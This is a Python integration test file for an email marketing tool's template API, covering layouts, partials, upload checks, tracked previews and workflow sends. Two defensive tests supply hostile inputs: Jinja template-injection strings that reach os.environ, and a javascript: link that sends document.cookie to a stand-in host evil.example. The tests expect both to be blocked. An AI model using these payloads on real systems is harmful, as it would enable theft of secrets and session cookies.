"""Templates over HTTP: layouts and partials, upload checks as 422s, and the preview with tracking."""

from __future__ import annotations

import re
from typing import Any

from nurtureflow.contacts.model import contact_id_for
from nurtureflow.settings import SendingSettings
from tests.integration.conftest import MARKETER, Harness

FOOTER = '<p>{{ postal_address }} <a href="{{ unsubscribe_url }}">Unsubscribe</a></p>'
LAYOUT = {
    "kind": "layout",
    "html": "<html><body><h1>{% block title %}{% endblock %}</h1>{% block content %}{% endblock %}"
    '{% include "tr-footer" %}</body></html>',
}
EMAIL = {
    "subject": "{{ contact.first_name | default('Hello') }}, your cart",
    "html": '{% extends "tr-brand" %}'
    '{% block title %}Hi {{ contact.first_name | default("there") }}{% endblock %}'
    "{% block content %}<p>{{ event.value | money(event.currency) }} left in "
    '<a href="https://shop.example/cart">your cart</a>, {{ workflow.name }}</p>{% endblock %}',
}


def _put(harness: Harness, template_id: str, body: Any) -> Any:
    return harness.http("PUT", f"/admin/templates/{template_id}", body, token=MARKETER)


def _preview(harness: Harness, template_id: str, body: Any) -> Any:
    return harness.http("POST", f"/admin/templates/{template_id}/preview", body, token=MARKETER)


def _upload_brand(harness: Harness) -> None:
    assert _put(harness, "tr-footer", {"kind": "partial", "html": FOOTER}).status in (200, 201)
    assert _put(harness, "tr-brand", LAYOUT).status in (200, 201)
    assert _put(harness, "tr-cart", EMAIL).status in (200, 201)


def test_layouts_and_partials_are_uploaded_with_their_kind(harness: Harness) -> None:
    _upload_brand(harness)
    stored = harness.http("GET", "/admin/templates/tr-brand", token=MARKETER).json()
    assert stored["kind"] == "layout"
    assert harness.http("GET", "/admin/templates/tr-cart", token=MARKETER).json()["kind"] == "email"


def test_an_upload_naming_a_missing_layout_is_a_422_naming_field_and_name(harness: Harness) -> None:
    answer = _put(harness, "tr-orphan", {"subject": "s", "html": '{% extends "tr-nowhere" %}'})
    assert answer.status == 422
    assert answer.json()["error"] == "invalid_template"
    [detail] = answer.json()["details"]
    assert (detail["field"], detail["name"]) == ("html", "tr-nowhere")
    assert harness.http("GET", "/admin/templates/tr-orphan", token=MARKETER).status == 404


def test_an_upload_that_closes_a_cycle_is_refused_and_nothing_changes(harness: Harness) -> None:
    _upload_brand(harness)
    answer = _put(harness, "tr-footer", {"kind": "partial", "html": '{% include "tr-brand" %}'})
    assert answer.status == 422
    assert "cycle" in answer.json()["details"][0]["message"]
    assert harness.http("GET", "/admin/templates/tr-footer", token=MARKETER).json()["html"] == FOOTER


def test_syntax_errors_name_the_part_and_line(harness: Harness) -> None:
    answer = _put(harness, "tr-bad", {"subject": "ok", "html": "<p>\n\n{% if contact.first_name %}</p>"})
    assert answer.status == 422
    detail = answer.json()["details"][0]
    assert (detail["field"], detail["line"]) == ("html", 3)


def test_runtime_errors_surface_at_upload_against_the_sample_data(harness: Harness) -> None:
    answer = _put(harness, "tr-runtime", {"subject": "s", "html": "{{ event.value / 0 }}"})
    assert answer.status == 422
    assert "ZeroDivisionError" in answer.json()["details"][0]["message"]


def test_hostile_uploads_are_422(harness: Harness) -> None:
    for html in ("{{ cycler.__init__.__globals__.os.environ }}", "{{ contact|attr('__class__') }}"):
        answer = _put(harness, "tr-hostile", {"subject": "s", "html": html})
        assert answer.status == 422
        assert answer.json()["details"][0]["field"] == "html"


def test_an_email_without_footer_is_stored_with_warnings(harness: Harness) -> None:
    answer = _put(harness, "tr-bare", {"subject": "s", "html": "<p>Hi</p>"})
    assert answer.status in (200, 201)
    assert len(answer.json()["warnings"]) == 2


def test_unknown_fields_and_an_email_without_subject_are_422_naming_them(harness: Harness) -> None:
    answer = _put(harness, "tr-x", {"subject": "s", "html": "h", "body": "b"})
    assert (answer.status, answer.json()["details"][0]["field"]) == (422, "body")
    answer = _put(harness, "tr-x", {"html": "<p>h</p>"})
    assert (answer.status, answer.json()["details"][0]["field"]) == (422, "subject")


def test_preview_for_described_contact_applies_layout_filters_and_tracking(harness: Harness) -> None:
    _upload_brand(harness)
    body = {
        "contact": {"first_name": "Léa", "locale": "fr_FR", "timezone": "Europe/Paris", "plan": "pro"},
        "event": {"type": "cart_updated", "properties": {"value": 1234.5, "currency": "EUR"}},
    }
    answer = _preview(harness, "tr-cart", body)
    assert answer.status == 200, answer.body
    email = answer.json()
    assert email["subject"] == "Léa, your cart"
    assert "<h1>Hi Léa</h1>" in email["html"]
    assert "1\u202f234,50\xa0€" in email["html"]
    assert "Preview" in email["html"]
    # Tracking as a send applies it: the cart link signed, the unsubscribe link left, a pixel.
    assert 'href="https://shop.example/cart"' not in email["html"]
    click = re.search(r'href="([^"]*/t/c/[^"]+)"', email["html"])
    assert click is not None
    unsubscribe = re.search(r'href="([^"]*/u/[^"]+)"', email["html"])
    assert unsubscribe is not None
    assert re.search(r'<img src="[^"]*/t/o/[^"]+" width="1" height="1"', email["html"])
    # The text part's link is tracked too, to the same target; its unsubscribe URL is left.
    text_click = re.search(r"your cart \((http://[^)\s]+/t/c/[^)\s]+)\)", email["text"])
    assert text_click is not None
    assert "https://shop.example/cart" not in email["text"]
    assert unsubscribe.group(1) in email["text"]
    followed = harness.http("GET", text_click.group(1))
    assert (followed.status, followed.headers["Location"]) == (302, "https://shop.example/cart")
    redirect = harness.http("GET", click.group(1))
    assert (redirect.status, redirect.headers["Location"]) == (302, "https://shop.example/cart")
    assert harness.http("GET", unsubscribe.group(1)).status == 200


def test_preview_for_a_stored_contact_by_id_or_email(harness: Harness) -> None:
    _upload_brand(harness)
    traits = {"first_name": "Tom", "locale": "en_US"}
    assert (
        harness.event({"type": "form_submitted", "email": "tom.tr@example.com", "traits": traits}).status
        == 202
    )
    harness.stack.drain()
    by_id = _preview(harness, "tr-cart", {"contact_id": contact_id_for("tom.tr@example.com")})
    by_email = _preview(harness, "tr-cart", {"contact_id": "tom.tr@example.com"})
    assert by_id.status == by_email.status == 200
    assert by_id.json()["subject"] == by_email.json()["subject"] == "Tom, your cart"


def test_preview_errors_are_404_and_422_naming_the_field(harness: Harness) -> None:
    _upload_brand(harness)
    assert _preview(harness, "tr-none", {"contact": {}}).status == 404
    missing = _preview(harness, "tr-cart", {"contact_id": "c_nobody"})
    assert (missing.status, missing.json()["details"][0]["field"]) == (404, "contact_id")
    cases = [
        ({}, "contact_id"),
        ({"contact_id": "x", "contact": {}}, "contact_id"),
        ({"contact": "Ana"}, "contact"),
        ({"contact": {"score": "high"}}, "contact.score"),
        ({"contact": {}, "event": [1]}, "event"),
        ({"contact": {}, "extra": 1}, "extra"),
    ]
    for body, field in cases:
        answer = _preview(harness, "tr-cart", body)
        assert (answer.status, answer.json()["details"][0]["field"]) == (422, field), body


def test_a_reuploaded_layout_shows_in_the_next_preview(harness: Harness) -> None:
    _upload_brand(harness)
    changed = {**LAYOUT, "html": LAYOUT["html"].replace("<h1>", "<h1 class='v2'>")}
    assert _put(harness, "tr-brand", changed).status == 200
    assert "<h1 class='v2'>" in _preview(harness, "tr-cart", {"contact": {}}).json()["html"]
    assert _put(harness, "tr-brand", LAYOUT).status == 200
    assert "<h1>Hi there</h1>" in _preview(harness, "tr-cart", {"contact": {}}).json()["html"]


def test_a_sent_email_uses_the_layout_the_workflow_name_and_the_footer(harness: Harness) -> None:
    _upload_brand(harness)
    bare = {
        "subject": "Bare {{ workflow.step }}",
        "html": "<html><body><p>{{ workflow.name }} v{{ workflow.version }}</p></body></html>",
    }
    assert _put(harness, "tr-send-bare", bare).status in (200, 201)
    workflow = {
        "schema": "workflow/v1",
        "id": "tr-send",
        "name": "Layout check",
        "trigger": {"manual": True},
        "start": "cart",
        "steps": {
            "cart": {"type": "email", "template": "tr-cart", "next": "bare"},
            "bare": {"type": "email", "template": "tr-send-bare"},
        },
    }
    assert harness.http("PUT", "/admin/workflows/tr-send", workflow, token=MARKETER).status == 201
    harness.http("POST", "/admin/workflows/tr-send/activate", token=MARKETER)
    assert (
        harness.event(
            {"type": "page_viewed", "email": "lay.tr@example.com", "traits": {"first_name": "Lay"}}
        ).status
        == 202
    )
    harness.stack.drain()
    answer = harness.http(
        "POST", "/admin/workflows/tr-send/enroll", {"contacts": ["lay.tr@example.com"]}, token=MARKETER
    )
    assert answer.status == 202
    cart, plain = harness.sent_to("lay.tr@example.com")
    assert cart["subject"] == "Lay, your cart"
    assert "<h1>Hi Lay</h1>" in cart["html"]
    assert "Layout check</p>" in cart["html"]
    assert cart["html"].count("/u/") == 1  # the layout's own link: no second footer
    assert plain["subject"] == "Bare bare"
    assert "<p>Layout check v1</p>" in plain["html"]
    # The template had no footer: the standard one carries the address and unsubscribe link.
    assert SendingSettings().postal_address in plain["html"]
    assert re.search(r'<a href="[^"]*/u/[^"]+">Unsubscribe</a>', plain["html"])
    assert "Unsubscribe: " in plain["text"]


def test_a_workflow_whose_email_step_names_a_layout_is_refused_naming_the_step(harness: Harness) -> None:
    _upload_brand(harness)
    workflow = {
        "schema": "workflow/v1",
        "id": "tr-layout-step",
        "name": "Sends a layout",
        "trigger": {"event": "tr_signed_up"},
        "start": "mail",
        "steps": {"mail": {"type": "email", "template": "tr-brand"}},
    }
    answer = harness.http("PUT", "/admin/workflows/tr-layout-step", workflow, token=MARKETER)
    assert answer.status == 422
    [problem] = [d for d in answer.json()["details"] if d["pointer"] == "/steps/mail/template"]
    assert "layouts and partials are never sent alone" in problem["message"]
    workflow["steps"]["mail"]["template"] = "tr-cart"
    assert harness.http("PUT", "/admin/workflows/tr-layout-step", workflow, token=MARKETER).status == 201


def test_a_link_built_from_contact_data_never_carries_a_script_url(harness: Harness) -> None:
    # Anyone with the public site key can set a trait: autoescaping alone would send it as a link.
    html = '<p><a href="{{ contact.properties.site }}" title="{{ contact.first_name }}">site</a></p>'
    assert _put(harness, "tr-site-link", {"subject": "Hi", "html": html}).status in (200, 201)
    sites = ("javascript:fetch('//evil.example/'+document.cookie)", " JaVaScRiPt:alert(1)", "data:text/x")
    for site in sites:
        answer = _preview(harness, "tr-site-link", {"contact": {"first_name": '"><b>', "site": site}})
        assert answer.status == 200, answer.body
        sent = answer.json()["html"]
        assert '<a href="#" title="&#34;&gt;&lt;b&gt;">site</a>' in sent, sent
        assert "javascript:" not in sent.lower()
